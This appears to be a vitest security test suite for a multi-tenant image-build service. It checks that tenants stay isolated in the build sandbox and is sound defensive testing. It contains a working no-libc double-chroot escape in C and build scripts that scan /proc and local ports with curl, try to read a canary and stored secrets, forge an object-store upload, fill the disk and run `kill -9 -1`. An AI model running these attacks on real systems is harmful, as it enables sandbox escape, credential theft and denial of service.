// Hostile tenants on the local stack (README, "The builder is hostile"; CONTRACT §6). Real builds of the
// fixture image through the buildspec in the per-run podman sandbox, whose build scripts attack: a 9 KB
// static binary shipped in customizations.files does the classic double-chroot escape and looks for
// the host's files; a script scans /proc and the stack's ports, leaves a setsid daemon, and another
// runs `kill -9 -1` while another org builds. The assertions are on what the attacker found (its own
// output in the build log) and on the host, never on a flag.
import { execFile, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { readdir, rm, statfs } from 'node:fs/promises';
import { connect } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LocalCodeBuild } from '../../functions/local/local-codebuild.js';
import { buildFixtureBaseImage, hasBuildah, removeImages } from '../fixtures/base-image.js';
import {
  type Client,
  imageBuild,
  repository,
  seedRepositories,
  startTestStack,
  type TestStack,
  waitForReason,
} from '../fixtures/local-stack.js';
import { hasRegistry, pushImage, startRegistry, type TestRegistry } from '../fixtures/registry.js';

const run = promisify(execFile);
const hasPodman = spawnSync('podman', ['--version']).status === 0;
const hasCc = spawnSync('gcc', ['--version']).status === 0 && process.arch === 'x64';
const READY = hasPodman && hasCc && (await hasBuildah()) && (await hasRegistry());
const id = randomBytes(4).toString('hex');
const B_PASSWORD = `b-secret-${randomBytes(8).toString('hex')}`;
const CANARY = join(tmpdir(), `ib-canary-${id}`);
const CANARY_TEXT = `canary-${randomBytes(8).toString('hex')}`;
const MARK = join(tmpdir(), `ib-escaped-${id}`);
/** What one run may write here (the suite's stack sets its sandboxes' disks to this). */
const DISK_CAP = 1536 * 1024 * 1024;
const DAEMON = `sleep 7${randomBytes(2).readUInt16BE(0) % 1000}7`;

/** The double-chroot escape: no libc, raw x86_64 syscalls, then `sh -c <argv[1]>` outside the chroot. */
const ESCAPE_C = String.raw`
static long sys(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}
static void say(const char *s) { volatile long n = 0; while (s[n]) n++; sys(1, 1, (long)s, n); }
__asm__(".global _start\n_start:\n mov %rsp, %rdi\n and $-16, %rsp\n call cmain\n");
void cmain(long *sp) {
  char **argv = (char **)(sp + 1);
  sys(83, (long)"esc-dir", 0755, 0);
  if (sys(161, (long)"esc-dir", 0, 0) != 0) say("ESCAPE first chroot refused\n");
  for (int i = 0; i < 64; i++) sys(80, (long)"..", 0, 0);
  if (sys(161, (long)".", 0, 0) != 0) say("ESCAPE second chroot refused\n");
  else say("ESCAPE out of the chroot\n");
  char *args[] = {"/bin/sh", "-c", argv[1], 0};
  char *env[] = {"PATH=/usr/sbin:/usr/bin:/sbin:/bin", 0};
  sys(59, (long)args[0], (long)args, (long)env);
  say("ESCAPE exec failed\n");
  sys(60, 1, 0, 0);
}
`;

let source: TestRegistry;
let dest: TestRegistry;
let stack: TestStack;
let orgA: Client;
let orgB: Client;
let escapeBinary: Buffer;
const images: string[] = [];

beforeAll(async () => {
  if (!READY) return;
  const work = mkdtempSync(join(tmpdir(), 'ib-hostile-'));
  writeFileSync(join(work, 'escape.c'), ESCAPE_C);
  await run('gcc', [
    '-static',
    '-nostdlib',
    '-Os',
    '-fno-builtin',
    '-fno-stack-protector',
    '-s',
    '-o',
    join(work, 'escape'),
    join(work, 'escape.c'),
  ]);
  escapeBinary = readFileSync(join(work, 'escape'));
  await rm(work, { recursive: true, force: true });
  writeFileSync(CANARY, CANARY_TEXT);
  [source, dest] = await Promise.all([startRegistry(), startRegistry()]);
  const base = `localhost/ib-hostile-base:${id}`;
  await buildFixtureBaseImage(base);
  images.push(base);
  await pushImage(base, `${source.host}/fixtures/bootc-base:1`);
  stack = await startTestStack({
    workflows: undefined,
    settings: { buildTimeoutSeconds: 600, heartbeatSeconds: 2 },
    sandboxDiskBytes: DISK_CAP,
  });
  orgA = await stack.as('org-attacker');
  orgB = await stack.as('org-victim');
  for (const org of [orgA, orgB]) {
    await seedRepositories(org, {
      src: { registry: source.host, scheme: 'http' },
      dst: { registry: dest.host, scheme: 'http' },
    });
  }
  // The victim's registry password, stored under DATA_DIR like every secret.
  await orgB.req(
    'POST',
    '/api/v1/repositories',
    repository('private', {
      registry: 'registry.victim.example',
      accessMode: 'ReadWrite',
      ociAuth: { authType: 'docker', username: 'victim', password: B_PASSWORD },
    }),
  );
}, 600_000);

afterAll(async () => {
  if (!READY) return;
  await stack?.close();
  await Promise.all([source?.stop(), dest?.stop()]);
  await removeImages(...images);
  await rm(CANARY, { force: true });
  await rm(MARK, { force: true });
  spawnSync('pkill', ['-f', DAEMON]);
});

function hostileBuild(
  name: string,
  script: string,
  files: { path: string; content: string; encoding?: string; mode?: string }[] = [],
) {
  return imageBuild(name, {
    source: { repository: 'src', imageName: 'fixtures/bootc-base', imageTag: '1' },
    destination: { repository: 'dst', imageName: `hostile/${name}`, imageTag: 'v1' },
    customizations: { files, scripts: [{ name: 'attack', content: script }] },
  } as never);
}

const logOf = async (org: Client, name: string) =>
  (await org.req('GET', `/api/v1/imagebuilds/${name}/log`)).text;
const hostProcesses = () => spawnSync('ps', ['-eo', 'args'], { encoding: 'utf8' }).stdout;

describe.skipIf(!READY)('hostile builds in the local sandbox', () => {
  it('a chroot escape, a /proc and port scan and a setsid daemon find nothing of the host, the stack or another org', async () => {
    const dynamoPort = new URL(stack.dynamo.endpoint).port;
    const s3Port = new URL(stack.objectStore.endpoint).port;
    const gatewayPort = String(stack.port);
    const script = `#!/bin/sh
set +e
/usr/local/bin/escape "
  echo ROOT: \\$(ls / | tr '\\n' ' ');
  if [ -e '${CANARY}' ]; then echo LEAK-CANARY: \\$(cat '${CANARY}'); else echo NO-CANARY; fi;
  if [ -e '${stack.dataDir}' ]; then echo LEAK-DATADIR: \\$(find '${stack.dataDir}' -type f | head -50); cat \\$(find '${stack.dataDir}/secrets' -type f) 2>/dev/null; else echo NO-DATADIR; fi;
  echo escaped > '${MARK}' && echo WROTE-MARK;
"
echo "PROCS: $(ls /proc | grep -cE '^[0-9]+$')"
for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null; echo; done > /tmp/cmdlines
if grep -qiE 'DynamoDBLocal|vitest|docker-registry|s3rver|node ' /tmp/cmdlines; then echo LEAK-PROCS: $(grep -iE 'DynamoDBLocal|vitest|docker-registry' /tmp/cmdlines | head -3); else echo NO-HOST-PROCS; fi
# Out of the chroot, with the sandbox's own curl: the stack's ports, and the object store without a URL.
/usr/local/bin/escape "
  for port in ${dynamoPort} ${gatewayPort}; do
    code=\\$(curl -s -m 3 -o /tmp/body -w '%{http_code}' -X POST -H 'X-Amz-Target: DynamoDB_20120810.ListTables' -H 'Content-Type: application/x-amz-json-1.0' -d '{}' http://127.0.0.1:\\$port/); rc=\\$?;
    echo PORT \\$port code=\\$code exit=\\$rc body=\\$(head -c 200 /tmp/body 2>/dev/null);
  done;
  for path in /imagebuilder-local/ /imagebuilder-local/contexts/ '/imagebuilder-local/?list-type=2'; do
    code=\\$(curl -s -m 3 -o /tmp/body -w '%{http_code}' http://127.0.0.1:${s3Port}\\$path);
    echo S3 \\$path code=\\$code body=\\$(head -c 200 /tmp/body);
  done;
  code=\\$(curl -s -m 3 -o /dev/null -w '%{http_code}' -X PUT --data-binary forged http://127.0.0.1:${s3Port}/imagebuilder-local/artifacts/org-victim/x/disk.qcow2);
  echo S3-PUT code=\\$code;
"
setsid ${DAEMON} </dev/null >/dev/null 2>&1 &
echo ATTACK-DONE
`;
    const created = await orgA.req(
      'POST',
      '/api/v1/imagebuilds',
      hostileBuild('escape', script, [
        {
          path: '/usr/local/bin/escape',
          content: escapeBinary.toString('base64'),
          encoding: 'base64',
          mode: '0755',
        },
      ]),
    );
    expect(created.status, created.text).toBe(201);
    const done = await waitForReason(orgA, 'imagebuilds', 'escape', ['Completed', 'Failed'], 300_000);
    const log = await logOf(orgA, 'escape');
    expect(log, log.slice(-4000)).toContain('ATTACK-DONE');
    expect(done.status.conditions[0].reason, log.slice(-3000)).toBe('Completed');
    // The escape itself worked — into the sandbox's own root, the builder image, not the host.
    expect(log).toContain('ESCAPE out of the chroot');
    expect(log).toMatch(/ROOT: .*codebuild/);
    expect(log).toContain('NO-CANARY');
    expect(log).not.toContain(CANARY_TEXT);
    expect(log).toContain('NO-DATADIR');
    expect(log).not.toContain(B_PASSWORD);
    expect(existsSync(MARK)).toBe(false);
    // Processes: only the sandbox's own.
    expect(log).toContain('NO-HOST-PROCS');
    expect(Number(/PROCS: (\d+)/.exec(log)?.[1])).toBeLessThan(40);
    // The stack's ports: nothing answers (curl: connection refused, exit 7); the object store only
    // through the gate, which denies whatever carries no valid presigned signature.
    expect(log, log.slice(-3000)).toContain(`PORT ${dynamoPort} code=000 exit=7`);
    expect(log).toContain(`PORT ${gatewayPort} code=000 exit=7`);
    expect(log).not.toContain('TableNames');
    expect(log.match(/S3 \S+ code=403 body=<Error><Code>AccessDenied/g)).toHaveLength(3);
    expect(log).toContain('S3-PUT code=403');
    expect(await stack.deps.objects.list('artifacts/org-victim/')).toEqual([]);
    // Nothing it started outlives its run.
    expect(hostProcesses()).not.toContain(DAEMON);
    // Its sandbox has no process left: no conmon (whose arguments name the container) nor anything else.
    const container = /runs in sandbox (ib-run-[0-9a-f]+)/.exec(log)?.[1];
    expect(container).toMatch(/^ib-run-/);
    expect(hostProcesses()).not.toContain(container);
  }, 400_000);

  it('filling the disk, in the build step and out of its chroot, fills only the disk of its own run; the next build starts clean', async () => {
    const free = async () => {
      const f = await statfs(tmpdir());
      return f.bavail * f.bsize;
    };
    const before = await free();
    const script = `#!/bin/sh
set +e
dd if=/dev/zero of=/fill bs=1M 2>/dev/null
echo "FILLED-STEP $(du -m /fill | cut -f1)"
rm -f /fill
/usr/local/bin/escape "dd if=/dev/zero of=/root/fill bs=1M 2>/dev/null; echo FILLED-ESCAPED \\$(du -m /root/fill | cut -f1)"
echo FILL-DONE
`;
    const created = await orgA.req(
      'POST',
      '/api/v1/imagebuilds',
      hostileBuild('filler', script, [
        {
          path: '/usr/local/bin/escape',
          content: escapeBinary.toString('base64'),
          encoding: 'base64',
          mode: '0755',
        },
      ]),
    );
    expect(created.status, created.text).toBe(201);
    // While it runs: the host's free space, and its sandbox's processes (seen, so their absence later means something).
    let lowest = before;
    let sawSandbox = false;
    let done: Awaited<ReturnType<typeof waitForReason>> | undefined;
    const finished = waitForReason(orgA, 'imagebuilds', 'filler', ['Completed', 'Failed'], 300_000).then(
      (b) => {
        done = b;
      },
    );
    while (!done) {
      lowest = Math.min(lowest, await free());
      const container = /runs in sandbox (ib-run-[0-9a-f]+)/.exec(await logOf(orgA, 'filler'))?.[1];
      if (container && hostProcesses().includes(container)) sawSandbox = true;
      await Promise.race([finished, new Promise((r) => setTimeout(r, 50))]);
    }
    const log = await logOf(orgA, 'filler');
    const step = Number(/FILLED-STEP (\d+)/.exec(log)?.[1]);
    const escaped = Number(/FILLED-ESCAPED (\d+)/.exec(log)?.[1] ?? 0);
    // The attacker wrote until its disk was full, and that was its own run's cap, not the host's disk.
    expect(step, log.slice(-3000)).toBeGreaterThan(512);
    expect(escaped, log.slice(-3000)).toBeGreaterThan(512);
    expect(step * 1024 * 1024).toBeLessThanOrEqual(DISK_CAP);
    expect(escaped * 1024 * 1024).toBeLessThanOrEqual(DISK_CAP);
    expect(before - lowest).toBeLessThan(DISK_CAP + 256 * 1024 * 1024);
    expect(sawSandbox).toBe(true);
    // Its run ended on its own merits, and took its disk with it.
    expect(['Completed', 'Failed']).toContain(done?.status.conditions[0].reason);
    for (let i = 0; i < 100 && before - (await free()) > 128 * 1024 * 1024; i++)
      await new Promise((r) => setTimeout(r, 100));
    expect(before - (await free())).toBeLessThan(128 * 1024 * 1024);
    // The next build, of another org, starts clean and completes.
    await orgB.req(
      'POST',
      '/api/v1/imagebuilds',
      hostileBuild('after-fill', '#!/bin/sh\ntest ! -e /fill && echo CLEAN\n'),
    );
    const next = await waitForReason(orgB, 'imagebuilds', 'after-fill', ['Completed', 'Failed'], 300_000);
    expect(next.status.conditions[0].reason, await logOf(orgB, 'after-fill')).toBe('Completed');
  }, 400_000);

  it('`kill -9 -1` ends only its own run: a concurrent build of another org completes, the stack lives on', async () => {
    await orgB.req(
      'POST',
      '/api/v1/imagebuilds',
      hostileBuild('victim', '#!/bin/sh\nsleep 4\necho VICTIM-DONE\n'),
    );
    await orgA.req(
      'POST',
      '/api/v1/imagebuilds',
      hostileBuild('killer', '#!/bin/sh\nsleep 1\nkill -9 -1\necho KILLER-SURVIVED\n'),
    );
    const [killer, victim] = await Promise.all([
      waitForReason(orgA, 'imagebuilds', 'killer', ['Completed', 'Failed'], 300_000),
      waitForReason(orgB, 'imagebuilds', 'victim', ['Completed', 'Failed'], 300_000),
    ]);
    const victimLog = await logOf(orgB, 'victim');
    expect(victim.status.conditions[0].reason, victimLog.slice(-2000)).toBe('Completed');
    expect(victimLog).toContain('VICTIM-DONE');
    // The killer's run ends on its own merits (its builder was killed), with its own message.
    expect(killer.status.conditions[0].reason).toBe('Failed');
    // The host's processes are untouched: the registries and the stack still answer.
    expect((await fetch(`http://${dest.host}/v2/`)).status).toBe(200);
    expect((await orgA.req('GET', '/api/v1/imagebuilds/killer')).status).toBe(200);
  }, 400_000);

  it('a secret reference outside the run’s org is refused before anything runs', async () => {
    const secrets = await readdir(join(stack.dataDir, 'secrets', 'org-victim', 'repositories', 'private'));
    const ref = `org-victim/repositories/private/${secrets[0]}`;
    const read: string[] = [];
    const logFile = join(stack.dataDir, `cross-org-${id}.log`);
    const codebuild = new LocalCodeBuild({
      orgId: 'org-attacker',
      objectStore: stack.objectStore,
      readSecret: async (r) => {
        read.push(r);
        return 'should-not-be-read';
      },
      logFile,
      timeoutSeconds: 60,
      heartbeatTimeoutSeconds: 60,
    });
    await expect(
      codebuild.startBuildSync({
        ProjectName: 'local',
        EnvironmentVariablesOverride: [{ Name: 'IB_DEST_PASSWORD', Value: ref, Type: 'SECRETS_MANAGER' }],
      }),
    ).rejects.toThrow(/outside the run's org/);
    expect(read).toEqual([]);
  });

  it('a repository whose secret reference was rewritten to another org’s secret: the trusted step refuses, the password goes nowhere', async () => {
    // The attacker got write access to the table and pointed its destination at the victim's secret.
    const victim = await stack.deps.store.get('org-victim', 'Repository', 'private');
    const own = await stack.deps.store.get('org-attacker', 'Repository', 'dst');
    expect(victim?.secretRef).toMatch(/^org-victim\//);
    if (!own || !victim?.secretRef) throw new Error('fixture repositories missing');
    const tampered = {
      ...own,
      secretRef: victim.secretRef,
      doc: {
        ...own.doc,
        spec: { ...(own.doc.spec as object), ociAuth: { authType: 'docker', username: 'x' } },
      },
    } as typeof own;
    await stack.deps.store.replace(tampered, own.version);
    try {
      await orgA.req('POST', '/api/v1/imagebuilds', hostileBuild('tampered', '#!/bin/sh\necho RAN\n'));
      const done = await waitForReason(orgA, 'imagebuilds', 'tampered', ['Completed', 'Failed'], 120_000);
      expect(done.status.conditions[0].reason).toBe('Failed');
      expect(done.status.conditions[0].message).toMatch(/secret reference is outside its org/);
      const log = await logOf(orgA, 'tampered');
      expect(log).not.toContain(B_PASSWORD);
      expect(log).not.toContain('RAN');
      const uid = done.metadata.uid as string;
      expect(await stack.deps.objects.list(`contexts/org-attacker/${uid}`)).toEqual([]);
    } finally {
      await stack.deps.store.replace(own, own.version);
    }
  }, 200_000);

  it('the emulators answer on 127.0.0.1 only: from this machine’s other address, DynamoDB Local and s3rver refuse', async () => {
    const address = Object.values(networkInterfaces())
      .flat()
      .find((i) => i && i.family === 'IPv4' && !i.internal)?.address;
    if (!address) return; // no other interface here: nothing to reach
    const tryConnect = (port: number) =>
      new Promise<string>((res) => {
        const c = connect(port, address);
        c.once('connect', () => {
          c.destroy();
          res('connected');
        });
        c.once('error', (e: NodeJS.ErrnoException) => res(e.code ?? 'error'));
      });
    expect(await tryConnect(Number(new URL(stack.dynamo.endpoint).port))).toBe('ECONNREFUSED');
    expect(await tryConnect(Number(new URL(stack.objectStore.endpoint).port))).toBe('ECONNREFUSED');
    expect(await tryConnect(stack.port)).toBe('ECONNREFUSED');
  });

  it('keeps DATA_DIR 0700 and its secret files 0600', async () => {
    expect(statSync(stack.dataDir).mode & 0o777).toBe(0o700);
    const dir = join(stack.dataDir, 'secrets', 'org-victim', 'repositories', 'private');
    for (const f of await readdir(dir)) expect(statSync(join(dir, f)).mode & 0o777).toBe(0o600);
  });
});

describe('a host that cannot run the sandbox', () => {
  it('fails the build saying how to install podman, and runs nothing on the host', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ib-nopodman-'));
    const logFile = join(dir, 'run.log');
    const path = process.env.PATH;
    // bash and coreutils stay reachable; podman does not.
    process.env.PATH = '/nonexistent';
    try {
      const codebuild = new LocalCodeBuild({
        orgId: 'o',
        objectStore: {
          endpoint: 'http://127.0.0.1:9',
          credentials: { accessKeyId: 'x', secretAccessKey: 'x' },
          region: 'us-east-1',
        },
        readSecret: async () => '',
        logFile,
        timeoutSeconds: 60,
        heartbeatTimeoutSeconds: 60,
        script: join(dir, 'must-not-run.sh'),
      });
      await expect(
        codebuild.startBuildSync({ ProjectName: 'local', EnvironmentVariablesOverride: [] }),
      ).rejects.toThrow(/podman is not installed/);
    } finally {
      process.env.PATH = path;
    }
    expect(readFileSync(logFile, 'utf8')).toMatch(
      /^IB_ERROR: podman is not installed: .*apt-get install podman/m,
    );
    await rm(dir, { recursive: true, force: true });
  });
});
